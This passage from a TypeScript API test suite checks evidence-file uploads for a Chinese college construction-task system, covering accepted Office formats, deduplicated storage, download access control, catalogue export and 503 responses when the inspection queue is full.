    ['a PPTX laid out as PowerPoint does', async () => file('汇报2.pptx', await realPptx())],
    [
      'a DOCX with an embedded XLSX chart workbook',
      async () =>
        file(
          '含图表.docx',
          await officePackage('docx', {
            types:
              '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
            mainRels: [rel('rId10', 'package', 'embeddings/Microsoft_Excel_Worksheet.xlsx')],
            parts: [
              {
                name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
                content: await officePackage('xlsx'),
              },
            ],
          }),
        ),
    ],
    [
      'a DOC with an embedded Excel 97 workbook',
      () =>
        file(
          '含表格.doc',
          ole('WordDocument', {
            'ObjectPool/_1/\u0001CompObj': 'x',
            'ObjectPool/_1/\u0001Ole': oleStream(false),
            'ObjectPool/_1/Workbook': biff(boundSheet(0)),
          }),
        ),
    ],
    ['a path the browser sent whole', () => file('C:\\Users\\张老师\\Desktop\\证书.pdf', pdf('3'), true)],
  ] as const)('accepts %s', async (_, build) => {
    const res = await send(owner, await build()).expect(201);
    expect(res.body).toMatchObject({
      id: expect.any(String),
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    expect(files.has(res.body.sha256)).toBe(true);
    expect(res.body.name).not.toContain('\\');
  });

  const REAL_WORLD = [
    join(__dirname, '..', '..', 'shared', 'realworld', '建设任务书-武汉船舶职业技术学院.docx'),
    '/work/shared/realworld/建设任务书-武汉船舶职业技术学院.docx',
  ].find((path) => existsSync(path));
  (REAL_WORLD ? it : it.skip)('accepts a real 建设任务书 DOCX (shared/realworld)', async () => {
    await send(owner, file('建设任务书.docx', readFileSync(REAL_WORLD!))).expect(201);
  });

  it('stores identical content once, and serves it only to those who may see the task', async () => {
    const content = pdf('4 0 obj << /Title (同一份证书) >> endobj');
    const first = (await send(owner, file('证书.pdf', content)).expect(201)).body;
    const count = files.listAll().length;
    const second = (await send(owner, file('证书副本.pdf', content)).expect(201)).body;
    expect(second.sha256).toBe(first.sha256);
    expect(second.id).not.toBe(first.id);
    expect(files.listAll()).toHaveLength(count);

    const download = await owner.get(`/api/evidence/${first.id}`).buffer(true).expect(200);
    expect(download.headers['content-type']).toBe('application/pdf');
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect(download.headers['content-disposition']).toContain(encodeURIComponent('证书.pdf'));
    await other.get(`/api/evidence/${first.id}`).expect(403);
    await api.anonymous.get(`/api/evidence/${first.id}`).expect(401);
    await other
      .post(`/api/tasks/${taskId}/evidence`)
      .set('Content-Type', file('a.pdf', pdf()).contentType)
      .send(file('a.pdf', pdf()).body)
      .expect(403);
  });

  it('lists every file in the 佐证材料目录清单, and exports it', async () => {
    const planId = (await api.admin.get(`/api/tasks/${taskId}`).expect(200)).body.planId as string;
    const catalogue = (await api.admin.get(`/api/plans/${planId}/exports/evidence-catalogue`).expect(200))
      .body;
    expect(catalogue.length).toBeGreaterThanOrEqual(11);
    expect(catalogue[0]).toMatchObject({ level: '学校层面', projectCode: '1', taskTitle: '任务' });
    expect(catalogue.map((e: { name: string }) => e.name)).toEqual(
      expect.arrayContaining(['建设成果.pdf', '证书.pdf']),
    );
    const none = (
      await api.admin
        .get(`/api/plans/${planId}/exports/evidence-catalogue`)
        .query({ taskId: 'other' })
        .expect(200)
    ).body;
    expect(none).toEqual([]);
    const xlsx = await api.admin
      .get(`/api/plans/${planId}/exports/evidence-catalogue.xlsx`)
      .buffer(true)
      .expect(200);
    expect(xlsx.headers['content-type']).toContain('spreadsheetml');
    await owner.get(`/api/plans/${planId}/exports/evidence-catalogue`).expect(403);
  });
});

function pad(content: Buffer, size: number): Buffer {
  // Padding goes before the trailer, inside a comment, so the PDF stays whole.
  const eof = content.lastIndexOf('%%EOF');
  const filler = Buffer.alloc(size - content.length, 0x20);
  filler[0] = 0x25;
  return Buffer.concat([content.subarray(0, eof), filler, content.subarray(eof)]);
}

describe('upload admission', () => {
  let api: ApiHarness;
  afterAll(() => api.close());

  it('answers 503 with Retry-After beyond the inspection queue, and admits again once it drains', async () => {
    api = await startApi({ EVIDENCE_INSPECTIONS: '1', EVIDENCE_INSPECTIONS_QUEUED: '0' });
    const created = await api.createUser('queue.owner');
    const taskId = await api.defineTask(await api.createPlan(), created.userId);
    const token = (
      await request(api.app.getHttpServer())
        .post('/api/auth/login')
        .send({ username: 'queue.owner', password: USER_PASSWORD })
        .expect(200)
    ).body.token as string;
    const server = api.app.getHttpServer() as Server;
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;

    // The first upload is admitted and holds its place while its body is still arriving.
    const slow = file('慢.pdf', pdf('5 0 obj << /Title (slow) >> endobj'));
    const held = httpRequest({
      host: '127.0.0.1',
      port,
      method: 'POST',
      path: `/api/tasks/${taskId}/evidence`,
      headers: {
        Authorization: `Bearer ${token}`,
        'Content-Type': slow.contentType,
        'Content-Length': slow.body.length,
      },
    });
    const answered = new Promise<{ status: number; body: string }>((resolve, reject) => {
      held.on('response', (res) => {
        let body = '';
        res.on('data', (c: Buffer) => (body += c.toString()));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      });
      held.on('error', reject);
    });
    held.write(slow.body.subarray(0, 100));
    await new Promise((resolve) => setTimeout(resolve, 1000));

    const before = { head: await api.app.get(EVENT_STORE).headPosition() };
    const busy = await request(server)
      .post(`/api/tasks/${taskId}/evidence`)
      .set('Authorization', `Bearer ${token}`)
      .set('Content-Type', slow.contentType)
      .send(file('b.pdf', pdf()).body);
    expect(busy.status).toBe(503);
    expect(busy.headers['retry-after']).toBe('10');
    expect(busy.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(busy.body).toMatchObject({
      code: 'inspection-busy',
      detail: expect.stringMatching(/稍|秒后重试/),
    });
    expect(await api.app.get(EVENT_STORE).headPosition()).toBe(before.head);

    held.end(slow.body.subarray(100));
    expect((await answered).status).toBe(201);
    await request(server)
      .post(`/api/tasks/${taskId}/evidence`)
      .set('Authorization', `Bearer ${token}`)
      .set('Content-Type', slow.contentType)
      .send(file('c.pdf', pdf('6 0 obj << >> endobj')).body)
      .expect(201);
  });
});
